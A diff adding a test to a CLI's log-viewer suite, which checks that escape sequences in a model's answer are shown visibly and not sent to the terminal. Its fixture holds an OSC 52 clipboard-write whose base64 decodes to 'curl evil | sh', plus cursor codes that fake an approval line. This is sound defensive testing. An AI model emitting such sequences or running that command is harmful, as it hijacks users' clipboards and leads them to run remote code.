@@ -35,6 +35,27 @@ describe('cto logs', () => {
   })
 
 
+  it("shows a model's control characters, never sends them to the terminal: an answer holding escape sequences (OSC 52 writes the clipboard)", async () => {
+    const hostile = 'Done.\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[1A\u001b[2K✔ approved'
+    server = await startOpenAIServer({
+      handler: (r) => {
+        if (isReview(r)) return jsonReply({approved: true, quality: 9, feedback: 'fine'})
+        if (isCto(r)) return jsonReply({complexity: 'simple', type: 'research', model: 'deepseek', reason: 'x'})
+        return {content: hostile}
+      },
+    })
+    const env = await configure()
+    expect((await sb.run(['task', 'a question'], {env, cwd: join(sb.home, 'work')})).code).toBe(0)
+    const human = await sb.run(['logs', '-n', '1'])
+    expect(human.code, human.stderr).toBe(0)
+    // eslint-disable-next-line no-control-regex
+    expect(human.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/)
+    expect(human.stdout).toContain('Done.␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛[1A␛[2K✔ approved')
+    // --json keeps the answer as it was (JSON escapes it).
+    const json = await sb.json<LogsJson>(['logs', '-n', '1'])
+    expect(json.tasks[0].answer).toBe(hostile)
+  })
+
   it('the last tasks with -n, one with --task (an id prefix), each with model, status, cost, time and answer', async () => {
     server = await startOpenAIServer({
       handler: (r) => {
